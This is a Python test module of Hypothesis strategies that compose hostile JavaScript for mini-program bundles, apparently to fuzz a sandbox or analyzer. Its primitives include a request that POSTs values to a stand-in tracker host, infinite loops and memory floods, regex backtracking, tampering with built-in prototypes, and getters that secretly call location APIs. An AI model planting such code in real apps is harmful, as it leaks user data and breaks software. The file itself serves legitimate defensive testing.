"""Hypothesis strategies that compose hostile page code from the primitives of issue 11.

A program is a few primitives, each placed somewhere a bundle's code runs (module scope, App.onLaunch, onLoad, a
tap, a timer, a promise job, a share hook). Every primitive is a JS statement or block of its own; sizes come from
small sets that reach the interesting edges (depth 1,500, 2**26-character strings) without storing anything big.
"""

from __future__ import annotations

import json

from hypothesis import strategies as st

from .attacks import bundle

SIZES = st.sampled_from([1, 8, 70, 1500, 5000])
STR_BITS = st.sampled_from([4, 12, 20, 24, 26])
COUNTS = st.sampled_from([1, 100, 5000, 120000])
SINKS = ("G.request({ url: 'https://collect.tracker-example.net/p', method: 'POST', data: V })",
         "G.setStorageSync('k', V)",
         "console.log(V)",
         "page.setData({ v: V })",
         "G.navigateToMiniProgram({ appId: 'tt0123456789abcdef', extraData: { v: V } })",
         "G.showToast({ title: V })",
         "JSON.stringify(V)",
         "String(V)",
         "Promise.reject(V)",
         "(function () { throw V; })()",
         "getCurrentPages()[0].shared = V")  # returned by the share hook


def _into(value: str, sink: str) -> str:
    """``sink`` with ``value`` (a JS expression) in it, guarded so that one primitive's exception is its own."""
    return "try { (function (V) { " + sink + "; })(" + value + "); } catch (e) {}"


@st.composite
def deep_value(draw) -> str:
    n = draw(SIZES)
    leaf = draw(st.sampled_from(["1", "'leaf'", "[1, 2]", "G.getSystemInfoSync()"]))
    kind = draw(st.sampled_from(["object", "array"]))
    wrap = "{ d: o }" if kind == "object" else "[o]"
    return f"(function () {{ var o = {leaf}; for (var i = 0; i < {n}; i++) o = {wrap}; return o; }})()"


@st.composite
def cyclic_value(draw) -> str:
    shape = draw(st.sampled_from([
        "var o = {}; o.self = o; return o;",
        "var a = []; a.push(a, { back: a }); return a;",
        "var o = { list: [] }; for (var i = 0; i < 50; i++) o.list.push({ up: o, i: i }); return o;",
    ]))
    return f"(function () {{ {shape} }})()"


@st.composite
def tojson_value(draw) -> str:
    body = draw(st.sampled_from([
        "return this;",
        "throw new Error('no json');",
        "throw null;",
        "G.getSystemInfoSync(); return { again: this };",
        "var o = 1; for (var i = 0; i < 3000; i++) o = { d: o }; return o;",
        "return 'x'.repeat(1 << 22);",
        "return { toJSON: function () { return this; } };",
    ]))
    n = draw(st.sampled_from([0, 70]))
    return (f"(function () {{ var o = {{ toJSON: function () {{ {body} }} }}; for (var i = 0; i < {n}; i++)"
            " o = { n: o }; return o; })()")


@st.composite
def big_string(draw) -> str:
    bits = draw(STR_BITS)
    how = draw(st.sampled_from(["'x'.repeat(N)", "('y'.repeat(N >> 1) + 'z'.repeat(N >> 1)).slice(0)",
                                "'\\u4e2d'.repeat(N >> 1)", "'\\ud800'.repeat(N >> 2) + '\\u0000'"]))
    return "(" + how.replace("N", str(1 << bits)) + ")"


@st.composite
def value(draw) -> str:
    return draw(st.one_of(deep_value(), cyclic_value(), tojson_value(), big_string(), odd_value()))


@st.composite
def odd_value(draw) -> str:
    return draw(st.sampled_from([
        "null", "undefined", "Symbol('s')", "10n ** 30n", "NaN", "-0", "new Proxy({}, { get: function () { throw 1; } })",
        "new Proxy({}, { ownKeys: function () { G.getSystemInfoSync(); return ['a']; } })",
        "{ toString: function () { throw this; } }",
        "{ get name() { G.getLocation({}); return 'n'; }, message: { toString: function () { return 1 / 0; } } }",
        "Object.create(null)", "new Array(1 << 30)", "(function f() {})", "new Uint8Array(1 << 20)",
        "new Date(NaN)", "/(?:)/g", "new Error('\\n    at go (utils/x.js:1:1)')",
    ]))


@st.composite
def sink_use(draw) -> str:
    return _into(draw(value()), draw(st.sampled_from(SINKS)))


@st.composite
def long_names(draw) -> str:
    bits = draw(st.sampled_from([10, 16, 20]))
    n = draw(st.sampled_from([1, 50, 400]))
    use = draw(st.sampled_from(["page.setData({ n: i })", "G.getSystemInfoSync()", "console.log(i)",
                                "throw new Error('e' + i)"]))
    return ("try { var pad = 'n'.repeat(" + str(1 << bits) + "); for (var i = 0; i < " + str(n) + "; i++) {"
            " var f = function () { " + use + "; }; Object.defineProperty(f, 'name', { value: ('f' + i + pad).slice(0) });"
            " try { f(); } catch (e) {} } } catch (e) {}")


@st.composite
def flood(draw) -> str:
    n = draw(COUNTS)
    body = draw(st.sampled_from([
        "Promise.resolve(i).then(function () {});",
        "Promise.reject(i);",
        "setTimeout(function () {}, i % 1000);",
        "setInterval(function () {}, 1 + i % 5);",
        "G.getSystemInfoSync();",
        "G.request({ url: 'https://api.example.com/f?' + i });",
        "G.setStorageSync('k' + i, i);",
        "console.log('line', i);",
        "page.setData({ ['k' + i]: i });",
        "G.getLocation({});",
    ]))
    return f"try {{ for (var i = 0; i < {n}; i++) {{ {body} }} }} catch (e) {{}}"


@st.composite
def runaway(draw) -> str:
    return draw(st.sampled_from([
        "for (;;) {}",
        "(function f() { f(); })();",
        "try { (function f() { f(); })(); } catch (e) { G.getSystemInfoSync(); }",
        "(function chain() { Promise.resolve().then(chain); })();",
        "var keep = []; for (;;) keep.push('x'.repeat(1 << 16) + keep.length);",
        "try { var keep2 = []; for (;;) keep2.push(new Array(1 << 16)); } catch (e) {}",
        "'a'.repeat(1 << 24).indexOf('a'.repeat(1 << 12) + 'b');",
        "/(a+)+$/.test('a'.repeat(40) + 'b');",
        "(async function f() { await null; return f(); })();",
    ]))


@st.composite
def tamper(draw) -> str:
    return draw(st.sampled_from([
        "Object.prototype.toJSON = function () { return 'tampered'; };",
        "Object.defineProperty(Object.prototype, 'then', { get: function () { G.getSystemInfoSync(); return undefined; }, configurable: true });",
        "Array.prototype.push = function () { throw new Error('push'); };",
        "Array.prototype[Symbol.iterator] = function () { return { next: function () { return { done: false }; } }; };",
        "JSON.stringify = function () { return '{'; }; JSON.parse = function () { return null; };",
        "Function.prototype.call = function () { return 1; }; Function.prototype.apply = Function.prototype.call;",
        "Object.defineProperty = function () { throw new TypeError('nope'); };",
        "Object.keys = function () { return ['__proto__']; };",
        "String.prototype.slice = function () { return ''; }; String.prototype.indexOf = function () { return 0; };",
        "Promise.prototype.then = function () { return this; };",
        "Error.prototype.toString = function () { G.getSystemInfoSync(); return String(this); };",
        "Object.defineProperty(Error.prototype, 'stack', { get: function () { return '    at x (pages/x.js:1:1)'; }, configurable: true });",
        "G.request = function () {}; G.getLocation = function (o) { o && o.success && o.success({ latitude: 1 }); };",
        "try { Object.freeze(G); Object.freeze(Object.prototype); } catch (e) {}",
        "Object.setPrototypeOf(G, new Proxy({}, { get: function () { throw 1; } }));",
        "globalThis.setTimeout = function (f) { f(); };",
    ]))


@st.composite
def getter_calls_api(draw) -> str:
    sink = draw(st.sampled_from(SINKS[:6]))
    return _into("(function () { var o = {}; Object.defineProperty(o, 'x', { enumerable: true, get: function () {"
                 " G.getLocation({ success: function () {} }); G.setStorageSync('g', 1); return 1; } }); return o; })()",
                 sink)


@st.composite
def odd_throw(draw) -> str:
    v = draw(odd_value())
    how = draw(st.sampled_from(["throw V;", "Promise.reject(V);", "setTimeout(function () { throw V; }, 0);"]))
    return how.replace("V", v)


PRIMITIVES = st.one_of(sink_use(), long_names(), flood(), runaway(), tamper(), getter_calls_api(), odd_throw())
PLACES = ("module", "launch", "load", "tap", "timer", "job", "share")


@st.composite
def hostile_program(draw) -> dict[str, list[str]]:
    """Place name -> the primitives that run there."""
    parts = draw(st.lists(st.tuples(st.sampled_from(PLACES), PRIMITIVES), min_size=1, max_size=4))
    program: dict[str, list[str]] = {}
    for place, code in parts:
        program.setdefault(place, []).append(code)
    return program


def program_bundle(program: dict[str, list[str]], platform: str = "tt") -> dict[str, str]:
    """The program as a bundle: the Locate page of the attack corpus with the primitives in their places."""

    def at(place: str) -> str:
        return "\n    ".join(program.get(place, []))

    g = platform
    page = f"""var G = {g};
{at("module")}
Page({{
  data: {{ located: false }},
  onLoad() {{
    var page = this;
    {at("load")}
    setTimeout(function () {{ {at("timer")} }}, 1000);
    Promise.resolve().then(function () {{ {at("job")} }});
  }},
  go() {{
    var page = this;
    {at("tap")}
    G.getLocation({{ success: function (r) {{ page.setData({{ located: true }}); }} }});
  }},
  onShareAppMessage() {{
    var page = this;
    {at("share")}
    return {{ title: 'Shops', path: '/pages/index/index', extra: this.shared }};
  }},
}});
"""
    app = f"var G = {g};\nApp({{ onLaunch() {{ var page = null;\n  {at('launch')}\n}} }});\n"
    return bundle(page, platform=platform, app_js=app)


def describe(program: dict[str, list[str]]) -> str:
    return json.dumps(program, indent=1, ensure_ascii=False)
